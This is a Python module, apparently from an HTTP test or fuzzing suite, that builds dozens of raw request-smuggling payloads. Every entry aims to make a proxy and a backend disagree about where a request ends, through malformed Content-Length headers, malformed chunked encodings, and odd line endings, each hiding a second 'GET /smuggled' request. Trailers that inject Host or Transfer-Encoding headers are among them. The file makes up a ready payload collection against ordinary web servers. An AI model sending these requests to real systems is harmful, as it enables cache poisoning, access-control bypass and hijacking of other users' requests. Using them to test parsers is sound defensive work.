"""Attempts to smuggle a request past a proxy by lengths, chunks and the ends of lines.

As in ``smuggling_codings.py``: whoever reads the end of the first message differently reads
``GET /smuggled`` as a request of its own.
"""

from vectors.smuggling_codings import SMUGGLED

_SIZE = len(SMUGGLED)
_RIGHT = b"Content-Length: %d" % _SIZE
_ZERO = b"Content-Length: 0"


def _with(*lines: bytes, method: bytes = b"POST", body: bytes = SMUGGLED) -> bytes:
    return b"\r\n".join([method + b" /first HTTP/1.1", b"Host: test", *lines, b"", body])


def _chunked(body: bytes, *lines: bytes) -> bytes:
    return _with(b"Transfer-Encoding: chunked", *lines, body=body)


# The length covers the smuggled request for those who see it, nothing for those who do not.
LENGTHS = {
    "right": _with(_RIGHT),
    "right with zeros": _with(b"Content-Length: 000%d" % _SIZE),
    "zero, then right": _with(_ZERO, _RIGHT),
    "right, then zero": _with(_RIGHT, _ZERO),
    "right twice": _with(_RIGHT, _RIGHT),
    "list of right and zero": _with(b"Content-Length: %d, 0" % _SIZE),
    "list of right twice": _with(b"Content-Length: %d, %d" % (_SIZE, _SIZE)),
    "zero, then an underscore": _with(_ZERO, b"Content_Length: %d" % _SIZE),
    "zero, then a dot": _with(_ZERO, b"Content.Length: %d" % _SIZE),
    "underscore only": _with(b"Content_Length: %d" % _SIZE),
    "space before the colon": _with(b"Content-Length : %d" % _SIZE),
    "zero, then space before the colon": _with(_ZERO, b"Content-Length : %d" % _SIZE),
    "plus sign": _with(b"Content-Length: +%d" % _SIZE),
    "minus sign": _with(b"Content-Length: -%d" % _SIZE),
    "hexadecimal": _with(b"Content-Length: 0x%x" % _SIZE),
    "octal to some": _with(b"Content-Length: 0o%o" % _SIZE),
    "binary underscore": _with(b"Content-Length: %d_0" % (_SIZE // 10)),
    "decimal point": _with(b"Content-Length: %d.0" % _SIZE),
    "exponent": _with(b"Content-Length: %de0" % _SIZE),
    "letters behind": _with(b"Content-Length: %dx" % _SIZE),
    "space within": _with(b"Content-Length: %d %d" % (_SIZE // 10, _SIZE % 10)),
    "vertical tab before": _with(b"Content-Length: \x0b%d" % _SIZE),
    "form feed behind": _with(b"Content-Length: %d\x0c" % _SIZE),
    "NUL behind": _with(b"Content-Length: %d\x00" % _SIZE),
    "no-break space before": _with(b"Content-Length: \xa0%d" % _SIZE),
    "Arabic digits": _with("Content-Length: ٤٠".encode()),
    "quoted": _with(b'Content-Length: "%d"' % _SIZE),
    "semicolon behind": _with(b"Content-Length: %d;" % _SIZE),
    "empty": _with(b"Content-Length:"),
    "wraps at 2^32": _with(b"Content-Length: %d" % (2**32 + _SIZE)),
    "wraps at 2^64": _with(b"Content-Length: %d" % (2**64 + _SIZE)),
    "continued": _with(b"Content-Length: 0\r\n %d" % _SIZE),
    "behind a bare LF": _with(b"X: y\nContent-Length: %d" % _SIZE),
    "behind a bare CR": _with(b"X: y\rContent-Length: %d" % _SIZE),
    "named by Connection": _with(b"Connection: Content-Length", _RIGHT),
    "zero, named by Connection": _with(b"Connection: close, Content-Length", _ZERO),
    "with an expectation": _with(b"Expect: 100-continue", _RIGHT),
    "with an unknown expectation": _with(b"Expect: 100-continue, x", _RIGHT),
    "with an expectation and zero": _with(b"Expect: 100-continue", _ZERO),
    "with an offer to upgrade": _with(b"Connection: Upgrade", b"Upgrade: websocket", _RIGHT),
    "with an offer of h2c": _with(
        b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABk", _RIGHT
    ),
    "HTTP/1.0": _with(_RIGHT).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
    **{
        f"of {method.decode()}": _with(_RIGHT, method=method)
        for method in (b"GET", b"HEAD", b"PUT", b"DELETE", b"OPTIONS", b"TRACE", b"PATCH", b"QUERY")
    },
}

_END = b"0\r\n\r\n"

CHUNKS = {
    "one chunk": _chunked(b"%x\r\n%s\r\n0\r\n\r\n" % (_SIZE, SMUGGLED)),
    "size in upper case": _chunked(b"A\r\n0123456789\r\n" + _END),
    "size with zeros": _chunked(b"0000a\r\n0123456789\r\n0000\r\n\r\n"),
    "size with a plus sign": _chunked(b"+5\r\nhello\r\n" + _END + SMUGGLED),
    "size with a minus sign": _chunked(b"-5\r\nhello\r\n" + _END + SMUGGLED),
    "size with 0x": _chunked(b"0x5\r\nhello\r\n" + _END + SMUGGLED),
    "size with an underscore": _chunked(b"0_5\r\nhello\r\n" + _END + SMUGGLED),
    "size with a space behind": _chunked(b"5 \r\nhello\r\n" + _END + SMUGGLED),
    "size with a space before": _chunked(b" 5\r\nhello\r\n" + _END + SMUGGLED),
    "size with a NUL": _chunked(b"5\x00\r\nhello\r\n" + _END + SMUGGLED),
    "size with letters behind": _chunked(b"5xyz\r\nhello\r\n" + _END + SMUGGLED),
    "size of 2^64 + 5": _chunked(b"10000000000000005\r\nhello\r\n" + _END + SMUGGLED),
    "size of 2^32 + 5": _chunked(b"100000005\r\nhello\r\n" + _END + SMUGGLED),
    "size of many zeros": _chunked(b"0" * 40 + b"5\r\nhello\r\n" + _END + SMUGGLED),
    "no size": _chunked(b"\r\nhello\r\n" + _END + SMUGGLED),
    "size ended by a bare LF": _chunked(b"5\nhello\r\n" + _END + SMUGGLED),
    "size ended by a bare CR": _chunked(b"5\rhello\r\n" + _END + SMUGGLED),
    "size ended by CR CR LF": _chunked(b"5\r\r\nhello\r\n" + _END + SMUGGLED),
    "extension": _chunked(b"5;a=b\r\nhello\r\n" + _END),
    "extension without a value": _chunked(b"5;a\r\nhello\r\n" + _END),
    "extension of a semicolon": _chunked(b"5;\r\nhello\r\n" + _END),
    "extension in quotes": _chunked(b'5;a="b;c"\r\nhello\r\n' + _END),
    "extension with spaces": _chunked(b"5 ; a = b\r\nhello\r\n" + _END),
    "extension with CRLF in quotes": _chunked(b'5;a="\r\nhello\r\n0\r\n\r\n"' + SMUGGLED),
    # TERM.EXT and EXT.TERM: a line end within the extension that only one side takes for one.
    "extension with a bare LF": _chunked(b"5;\nhello\r\n" + _END + SMUGGLED),
    "extension with a bare CR": _chunked(b"5;\rhello\r\n" + _END + SMUGGLED),
    "extension on the last chunk": _chunked(b"5\r\nhello\r\n0;a=b\r\n\r\n"),
    "extension with bytes above ASCII": _chunked(b"5;a=\xff\r\nhello\r\n" + _END),
    "extensions, long": _chunked(b"5;" + b"a" * 3_000 + b"\r\nhello\r\n" + _END),
    "data longer than its size": _chunked(b"3\r\nhello\r\n" + _END + SMUGGLED),
    "data shorter than its size": _chunked(b"7\r\nhello\r\n" + _END + SMUGGLED),
    "data ended by a bare LF": _chunked(b"5\r\nhello\n" + _END + SMUGGLED),
    "data ended by two other bytes": _chunked(b"5\r\nhelloXX" + _END + SMUGGLED),
    "data that looks like an end": _chunked(b"5\r\n0\r\n\r\n\r\n" + _END),
    "end without its empty line": _chunked(b"5\r\nhello\r\n0\r\n" + SMUGGLED),
    "end with a bare LF": _chunked(b"5\r\nhello\r\n0\r\n\n" + SMUGGLED),
    "end with LF LF": _chunked(b"5\r\nhello\r\n0\n\n" + SMUGGLED),
    "trailer": _chunked(b"5\r\nhello\r\n0\r\nX-Sum: 1\r\n\r\n"),
    "trailer announced": _chunked(b"5\r\nhello\r\n0\r\nX-Sum: 1\r\n\r\n", b"Trailer: X-Sum"),
    "trailer with a length": _chunked(b"0\r\n" + _RIGHT + b"\r\n\r\n"),
    "trailer with a coding": _chunked(b"0\r\nTransfer-Encoding: chunked\r\n\r\n"),
    "trailer with a host": _chunked(b"0\r\nHost: evil\r\n\r\n"),
    "trailer with an authorization": _chunked(b"0\r\nAuthorization: x\r\n\r\n"),
    "trailer with a bare LF": _chunked(b"0\r\nX: y\n\r\n" + SMUGGLED),
    "trailer continued": _chunked(b"0\r\nX: y\r\n z\r\n\r\n" + SMUGGLED),
    "many chunks": _chunked(b"1\r\nx\r\n" * 200 + _END),
    "of a GET": _chunked(b"5\r\nhello\r\n" + _END).replace(b"POST", b"GET"),
    "of a HEAD": _chunked(b"5\r\nhello\r\n" + _END).replace(b"POST", b"HEAD"),
    "of a DELETE": _chunked(b"5\r\nhello\r\n" + _END).replace(b"POST", b"DELETE"),
    "with an expectation": _chunked(b"5\r\nhello\r\n" + _END, b"Expect: 100-continue"),
    "HTTP/1.0": _chunked(_END + SMUGGLED).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
}

_LINES = b"GET /first HTTP/1.1\r\nHost: test\r\nX: y"

LINE_ENDS = {
    "head ended by LF LF": _LINES + b"\n\n" + SMUGGLED,
    "head ended by CR CR": _LINES + b"\r\r" + SMUGGLED,
    "head ended by CRLF LF": _LINES + b"\r\n\n" + SMUGGLED,
    "head ended by LF CRLF": _LINES + b"\n\r\n" + SMUGGLED,
    "head ended by CRLF CR": _LINES + b"\r\n\r" + SMUGGLED,
    "head ended by CR CRLF CRLF": _LINES + b"\r\r\n\r\n",
    "head ended by CRLF, space, CRLF": _LINES + b"\r\n \r\n" + SMUGGLED,
    "head ended by CRLF, NUL, CRLF": _LINES + b"\r\n\x00\r\n" + SMUGGLED,
    "request line ended by LF": b"GET /first HTTP/1.1\nHost: test\r\n\r\n",
    "request line ended by CR": b"GET /first HTTP/1.1\rHost: test\r\n\r\n",
    "request line ended by NUL": b"GET /first HTTP/1.1\x00\r\nHost: test\r\n\r\n",
    "LF in a target": b"GET /first\nX: y HTTP/1.1\r\nHost: test\r\n\r\n",
    "request in a value behind LF LF": _LINES + b"\n\n" + SMUGGLED.strip() + b"\r\n\r\n",
    "request in a value behind CR LF CR": _LINES + b"\r\n\r" + SMUGGLED.strip() + b"\r\n\r\n",
}

ROWS = {
    **{f"length {name}": raw for name, raw in LENGTHS.items()},
    **{f"chunks: {name}": raw for name, raw in CHUNKS.items()},
    **{f"lines: {name}": raw for name, raw in LINE_ENDS.items()},
}
